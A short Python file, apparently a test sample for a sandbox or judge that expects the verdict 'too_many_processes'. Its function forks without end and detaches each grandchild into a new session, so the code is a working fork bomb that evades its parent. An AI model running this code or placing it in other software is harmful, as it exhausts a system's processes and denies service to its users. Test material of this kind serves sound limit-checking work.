# Starts processes without end, each of which leaves its parent and its session.
# verdict: too_many_processes
import os
import signal


def run_all(jobs):
    while True:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                signal.pause()
            os._exit(0)
        try:
            os.waitpid(-1, 0)
        except OSError:
            pass
